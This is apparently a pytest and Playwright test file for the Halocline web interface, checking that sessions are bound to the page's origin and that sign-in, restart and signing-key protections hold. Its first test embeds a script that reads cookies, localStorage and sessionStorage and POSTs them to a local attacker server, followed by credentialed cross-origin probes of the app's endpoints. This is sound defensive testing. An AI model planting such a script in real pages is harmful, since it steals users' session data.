"""A session belongs to the page's origin: another server of this machine gets the cookie, and it opens nothing."""

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import pytest
from playwright.async_api import Browser
from tests.hosts.chromium import needs_chromium
from tests.surfaces.web.pages.screen import Server
from websockets.asyncio.client import connect
from websockets.exceptions import InvalidStatus

pytestmark = [needs_chromium, pytest.mark.slow, pytest.mark.asyncio(loop_scope="session")]
PATHS = ("/session", "/blob/00", "/export/x.md", "/upload?name=a", "/live")
STEALS = """<script>
const lost = { cookie: document.cookie, kept: JSON.stringify(localStorage), session: JSON.stringify(sessionStorage) }
fetch('/lost', { method: 'POST', body: JSON.stringify(lost) })
const frame = document.body.appendChild(document.createElement('iframe'))
frame.src = 'OURS'
</script>"""


@asynccontextmanager
async def thief(ours: str) -> AsyncIterator[tuple[str, list[bytes]]]:
    """Another server on this machine that keeps all it is sent, and whose page looks for all it can read."""
    heard: list[bytes] = []

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        size = next((int(line[15:]) for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:")), 0)
        heard.append(head + await reader.readexactly(size))
        page = STEALS.replace("OURS", ours).encode()
        writer.write(
            b"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\n"
            + f"content-length: {len(page)}\r\n\r\n".encode()
            + page
        )
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0)
    async with server:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}", heard


async def test_a_server_on_another_port_gets_the_cookie_and_opens_nothing_with_all_it_has(
    server: Server, browser: Browser
) -> None:
    await server.start()
    ours = server.address.partition("/#")[0]
    context = await browser.new_context()
    page = await context.new_page()
    await page.goto(server.address)
    await page.locator("[data-ready=open]").wait_for()
    async with thief(ours) as (theirs, heard):
        other = await context.new_page()
        await other.goto(theirs)
        while not any(b"POST /lost" in one for one in heard):
            await asyncio.sleep(0.05)
        lost = json.loads(next(one for one in heard if b"POST /lost" in one).partition(b"\r\n\r\n")[2])
        cookie = next(
            line[8:].decode() for one in heard for line in one.split(b"\r\n") if line.lower().startswith(b"cookie: ")
        )
        assert cookie.startswith("halocline-")
        assert lost == {"cookie": "", "kept": "{}", "session": "{}"}
        tried = await other.evaluate(
            """async ([ours, paths]) => {
                const got = []
                for (const path of paths)
                    for (const method of ['GET', 'POST'])
                        for (const mode of ['cors', 'no-cors'])
                            got.push(await fetch(ours + path, { method, mode, credentials: 'include' })
                                .then((answer) => answer.status, () => 0))
                got.push(await new Promise((done) => {
                    const socket = new WebSocket(ours.replace('http', 'ws') + '/live', ['halocline', 'none'])
                    socket.onopen = () => done(101)
                    socket.onclose = () => done(0)
                }))
                return got
            }""",
            [ours, PATHS],
        )
        assert {*tried} == {0}
    for key in ([], ["none"], [cookie.partition("=")[2]]):
        with pytest.raises(InvalidStatus):
            await connect(
                f"{ours.replace('http', 'ws')}/live",
                origin=ours,
                additional_headers={"cookie": cookie},
                subprotocols=["halocline", *key],
                proxy=None,
            )
    await context.close()


async def test_a_reload_and_another_tab_are_let_in_without_the_address(server: Server, browser: Browser) -> None:
    await server.start()
    context = await browser.new_context()
    page = await context.new_page()
    await page.goto(server.address)
    await page.locator("[data-ready=open]").wait_for()
    await page.reload()
    await page.locator("[data-ready=open]").wait_for()
    other = await context.new_page()
    await other.goto(server.address.partition("#")[0])
    await other.locator("[data-ready=open]").wait_for()
    await context.close()


async def test_a_page_that_was_open_comes_back_by_itself_after_a_restart(server: Server, browser: Browser) -> None:
    await server.start()
    context = await browser.new_context()
    pages = [await context.new_page() for _ in range(3)]
    await pages[0].goto(server.address)
    await pages[0].locator("[data-ready=open]").wait_for()
    for page in pages[1:]:
        await page.goto(server.address.partition("#")[0])
        await page.locator("[data-ready=open]").wait_for()
    for _ in range(2):
        await server.stop()
        for page in pages:
            await page.locator("[data-ready=lost]").wait_for()
        await server.start()
        for page in pages:
            await page.locator("[data-ready=open]").wait_for()
    kept = (server.halo.home / "browsers.json").read_text()
    assert len(json.loads(kept)) == 1
    assert (server.halo.home / "browsers.json").stat().st_mode & 0o777 == 0o600
    await context.close()


async def test_a_browser_is_listed_and_can_be_signed_out_while_it_is_connected(
    server: Server, browser: Browser
) -> None:
    await server.start()
    context = await browser.new_context()
    page = await context.new_page()
    await page.goto(server.address)
    await page.locator("[data-ready=open]").wait_for()
    async with asyncio.timeout(20):  # it is registered once the page can be used
        while "Chrome on Linux" not in (listed := (await server.halo.run("web", "--browsers")).out):
            pass
    out = await server.halo.run("web", "--sign-out", listed.split()[0])
    assert out.out == "Signed out: 1 browser.\n"
    await page.get_by_role("heading", name="Sign in to Halocline").wait_for()
    await page.reload()
    await page.get_by_role("heading", name="Sign in to Halocline").wait_for()
    await context.close()


async def test_a_tab_that_is_locked_out_comes_in_with_another_one(server: Server, browser: Browser) -> None:
    await server.start()
    context = await browser.new_context()
    locked, other = await context.new_page(), await context.new_page()
    await locked.goto(server.address.partition("#")[0])
    await locked.get_by_role("heading", name="Sign in to Halocline").wait_for()
    await other.goto(server.address)
    await locked.locator("[data-ready=open]").wait_for()
    await context.close()


async def test_a_key_that_is_refused_is_said_to_be_and_what_to_do(server: Server, browser: Browser) -> None:
    await server.start()
    context = await browser.new_context()
    page = await context.new_page()
    await page.goto(server.address.partition("#")[0])
    await page.get_by_role("heading", name="Sign in to Halocline").wait_for()
    assert await page.get_by_text("was refused").count() == 0
    await page.goto("about:blank")
    await page.goto(server.address[:-3] + "zzz")
    await page.get_by_text("The key in this address was refused").wait_for()
    await page.get_by_text("Open the address that the server printed last").wait_for()
    await context.close()


async def test_the_signing_key_cannot_be_read_by_a_page_of_the_same_origin(server: Server, browser: Browser) -> None:
    await server.start()
    context = await browser.new_context()
    page = await context.new_page()
    await page.goto(server.address)
    await page.locator("[data-ready=open]").wait_for()
    read = await page.evaluate(
        """async () => {
            const opened = await new Promise((done) => {
                const opening = indexedDB.open('halocline', 1)
                opening.onsuccess = () => done(opening.result)
            })
            const pair = await new Promise((done) => {
                const asked = opened.transaction('keys').objectStore('keys').get('own')
                asked.onsuccess = () => done(asked.result)
            })
            const tried = []
            for (const form of ['jwk', 'pkcs8', 'raw'])
                tried.push(await crypto.subtle.exportKey(form, pair.privateKey).then(() => form, () => ''))
            return tried
        }"""
    )
    assert read == ["", "", ""]
    await context.close()
